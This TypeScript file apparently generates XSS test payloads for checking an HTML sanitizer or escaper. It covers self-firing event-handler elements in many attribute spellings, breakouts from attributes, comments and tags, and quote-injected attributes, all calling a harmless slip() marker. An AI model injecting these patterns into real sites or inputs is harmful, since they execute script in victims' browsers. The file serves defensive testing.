/** Elements with handlers that act by themselves, and ways out of what a text may have been put into. */
export function handlerPayloads(): string[] {
  const all: string[] = [];
  const add = (...texts: string[]) => all.push(...texts);
  const tag = (name: string, rest: string) => `<${name} data-slip ${rest}>`;
  const script = "<script data-slip>slip()</script>";

  // Handlers of elements that act by themselves, in each way of writing an attribute.
  const acting: [string, string][] = [
    ["img src=x", "onerror"],
    ["img src=//slip.invalid/i", "onload"],
    ["svg", "onload"],
    ["body", "onload"],
    ["video src=x", "onerror"],
    ["audio src=x", "onerror"],
    ["input autofocus", "onfocus"],
    ["select autofocus", "onfocus"],
    ["textarea autofocus", "onfocus"],
    ["details open", "ontoggle"],
    ["marquee", "onstart"],
    ["object data=x", "onerror"],
    ["iframe src=x", "onload"],
    ["embed src=x", "onerror"],
    ["style", "onload"],
    ["link rel=stylesheet href=x", "onerror"],
    ["div style=animation:pulse+1s", "onanimationstart"],
    ["div popover", "onbeforetoggle"],
    ["form", "onformdata"],
    ["source src=x", "onerror"],
  ];
  for (const [element, handler] of acting) {
    const [name = "", ...rest] = element.split(" ");
    const with_ = rest.join(" ");
    add(tag(name, `${with_} ${handler}=slip()`), tag(name, `${with_} ${handler}="slip()"`));
    add(tag(name.toUpperCase(), `${with_} ${handler.toUpperCase()}='slip()'`));
    add(
      `<${name}/data-slip/${with_.replaceAll(" ", "/")}/${handler}=slip()>`,
      `">${tag(name, `${with_} ${handler}=slip()`)}`,
    );
    add(`'>${tag(name, `${with_} ${handler}=&#115;lip()`)}`, tag(name, `${with_} ${handler}=\`slip()\``));
    add(`${tag(name, `${with_} ${handler}=slip() //`)}`.slice(0, -1));
  }

  // Out of the attribute, comment or element that a text may have been put into.
  for (const out of [
    '"',
    "'",
    "`",
    "-->",
    "--!>",
    "*/",
    "]]>",
    "?>",
    "%>",
    "&quot;>",
    '\\">',
    "</title>",
    "</textarea>",
    "</style>",
    "</noscript>",
    "</template>",
    "</select>",
    "</a>",
    "</script>",
    "</ScRiPt >",
  ]) {
    add(`${out}${script}`, `${out}${tag("img", "src=x onerror=slip()")}`);
  }
  for (const quote of ['"', "'"]) {
    for (const more of [
      "onmouseover=slip() x=",
      "autofocus onfocus=slip() x=",
      "style=position:fixed;inset:0 onclick=slip() x=",
      "data-slip x=",
    ]) {
      add(`x${quote} ${more}${quote}`);
    }
  }
  return all;
}
